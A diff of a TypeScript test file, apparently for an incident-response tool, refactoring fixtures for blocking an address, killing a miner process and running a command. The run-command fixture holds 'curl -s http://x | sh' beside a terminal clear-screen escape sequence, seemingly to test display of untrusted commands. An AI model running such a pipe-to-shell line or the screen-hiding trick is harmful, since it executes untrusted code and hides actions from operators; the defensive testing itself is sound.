@@ -3,7 +3,14 @@ import { describe, expect, test } from 'vitest';
 import type { Finding } from '../../src/findings/finding.ts';
 import { type HeadlessOptions, runHeadless } from '../../src/headless/run-headless.ts';
 import type { OperationTarget } from '../../src/operations/operation.ts';
-import { makeFinding, makeLook, makePlaybook, makeProcess, makeStep } from '../support/incident-builder.ts';
+import {
+  COMMAND,
+  makeFinding,
+  makeLook,
+  makePlaybook,
+  makeProcess,
+  makeStep,
+} from '../support/incident-builder.ts';
 import { type Script, ScriptedHandle } from '../support/scripted-handle.ts';
 
 const MINER = makeFinding('process:1');
@@ -12,12 +19,9 @@ const FINE = makeFinding('process:3', { verdict: 'benign', title: 'apt (1190)', 
 const BLOCK: OperationTarget = { kind: 'block-address', address: '10.66.0.9' };
 const KILL: OperationTarget = { kind: 'kill-process', process: makeProcess(812, 'kworkerds') };
 const RUN: OperationTarget = {
-  ...{
-    kind: 'run-command',
-    command: { shell: 'first line\ncurl -s http://x | sh #\u001b[2J\n\n last line' },
-  },
-  ...{ environment: {}, secretNames: [], workingFolder: null, timeoutMs: 1000, risk: 'reversible' },
-  ...{ verify: null, undo: null },
+  ...COMMAND,
+  command: { shell: 'first line\ncurl -s http://x | sh #\u001b[2J\n\n last line' },
+  risk: 'reversible',
 };
 const COLLECT: OperationTarget = { kind: 'collect-process', process: makeProcess(812, 'kworkerds') };
 
